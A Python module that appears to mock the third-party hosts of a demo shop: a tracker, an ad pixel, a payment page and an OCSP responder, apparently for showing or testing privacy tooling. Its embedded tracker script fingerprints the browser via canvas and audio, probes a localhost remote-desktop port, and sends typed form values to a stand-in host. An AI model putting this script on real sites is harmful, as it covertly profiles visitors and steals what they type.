"""The strangers HurryMart brings along: a tracker, an ad pixel, a foreign payment page."""

from __future__ import annotations

import datetime as dt
import secrets
from collections.abc import Mapping
from types import MappingProxyType

from aiohttp import web

from examples.demo_shop.certificates import OCSP_HOST, LeafOrder
from examples.demo_shop.content import Document

_LIFETIME = dt.timedelta(days=180)

# Takes marks of the device, looks for programs on it, listens to everything, and tells what is
# typed as it is typed.
_TAG = Document(
    b"""document.documentElement.dataset.trackly = "seen";
(async () => {
  const canvas = document.createElement("canvas");
  canvas.width = 240;
  canvas.height = 60;
  const pen = canvas.getContext("2d");
  pen.fillText("Sphinx of black quartz, judge my vow", 4, 20);
  for (let size = 1; size <= 60; size++) {
    pen.font = `${size}px sans-serif`;
    pen.measureText("mmm");
  }
  const picture = canvas.toDataURL();
  const sound = new OfflineAudioContext(1, 4410, 44100);
  sound.createOscillator().connect(sound.destination);
  await sound.startRendering();
  document.documentElement.dataset.tracklyMarks = String(picture.length);
})();
// Looks whether a program for remote desktops runs on the visitor's machine.
fetch("http://127.0.0.1:5939/").catch(() => {});
for (const kind of ["keydown", "pointermove", "input"]) {
  document.addEventListener(kind, () => {});
}
document.addEventListener("change", (event) => {
  const typed = encodeURIComponent(event.target.value);
  new Image().src = `https://cdn.trackly.test/heard.svg?v=${typed}`;
});
""",
    "text/javascript",
)
_WIDGET = Document(b'document.documentElement.dataset.widget = "2.3.1";\n', "text/javascript")
_REVIEWS = Document(
    b'document.documentElement.dataset.reviews = "loaded";\n',
    "text/javascript",
)
_BADGE = Document(
    b'<svg xmlns="http://www.w3.org/2000/svg" width="148" height="44" viewBox="0 0 148 44">'
    b'<rect width="148" height="44" rx="10" fill="#e8f0fe"/>'
    b'<circle cx="23" cy="22" r="12" fill="#2f6fed"/>'
    b'<path d="M17 22l4.5 4.5 8-9" fill="none" stroke="#fff" stroke-width="3"/>'
    b'<text x="43" y="27" font-family="sans-serif" font-size="13" fill="#1d3b78">'
    b"Trackly verified</text></svg>\n",
    "image/svg+xml",
)
_PIXEL = Document(
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>\n', "image/svg+xml"
)
_AVATAR = Document(
    b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40">'
    b'<circle cx="20" cy="20" r="20" fill="#d7c3f0"/><circle cx="20" cy="16" r="7" fill="#6b3fa0"/>'
    b"</svg>\n",
    "image/svg+xml",
)
_CHARGED = Document(
    b'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>QuickCash</title></head>'
    b"<body><h1>QuickCash</h1><p>This is a demo. Nothing was read, nothing was charged.</p>"
    b"</body></html>\n",
    "text/html",
)

_ADVERTISED = Document(
    b'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>GridAds</title></head>'
    b"<body><h1>GridAds</h1><p>This is what the advertiser paid for.</p></body></html>\n",
    "text/html",
)


class ThirdParty:
    """A host with a few documents, and a tracking cookie if it has a name for one."""

    def __init__(
        self, host: str, documents: Mapping[str, Document], cookie: str | None = None
    ) -> None:
        self.certificate = LeafOrder(names=(host,), valid_for=_LIFETIME)
        self._documents = MappingProxyType(dict(documents))
        self._cookie = cookie

    def respond(self, request: web.Request) -> web.Response:
        """Answer a known path with its document, anything else with 404."""
        document = self._documents.get(request.path)
        if document is None:
            return web.Response(status=404, text="Not found.\n")
        response = document.response()
        response.headers["Server"] = "edge"
        if self._cookie is not None and self._cookie not in request.cookies:
            # Browsers take SameSite=None only together with Secure, and that only over TLS.
            flags = "; Secure; SameSite=None" if request.secure else ""
            response.headers["Set-Cookie"] = (
                f"{self._cookie}={secrets.token_hex(16)}; Path=/; Max-Age=31536000{flags}"
            )
        return response


class Authoritys:
    """The authority's service that says whether it has revoked a certificate (RFC 6960)."""

    certificate = LeafOrder(names=(OCSP_HOST,), valid_for=_LIFETIME)

    def __init__(self, words: Mapping[str, bytes]) -> None:
        self._words = words

    def respond(self, request: web.Request) -> web.Response:
        """Answer by the path alone, which names the certificate."""
        word = self._words.get(request.path)
        if word is None:
            return web.Response(status=404, text="Not found.\n")
        return web.Response(body=word, content_type="application/ocsp-response")


def icon_host(host: str) -> ThirdParty:
    """A host with a site icon and nothing else."""
    icon = Document(b"\x89PNG\r\n\x1a\n", "image/png")
    return ThirdParty(host, {"/favicon.ico": icon})


def third_parties() -> tuple[ThirdParty, ...]:
    """The four hosts that HurryMart's pages refer to."""
    tracker = {
        "/tag.js": _TAG,
        "/reviews.js": _REVIEWS,
        "/badge.svg": _BADGE,
        "/heard.svg": _PIXEL,
        "/widgets@2.3.1/widget.js": _WIDGET,
    }
    return (
        ThirdParty("cdn.trackly.test", tracker, cookie="trackly_id"),
        ThirdParty("ads.gridads.test", {"/pixel.svg": _PIXEL, "/click": _ADVERTISED}),
        ThirdParty("pay.quickcash.test", {"/charge": _CHARGED}),
        # A stand-in for a service whose company is known to the list of owners.
        ThirdParty("secure.gravatar.com", {"/avatar/anna.svg": _AVATAR}),
    )
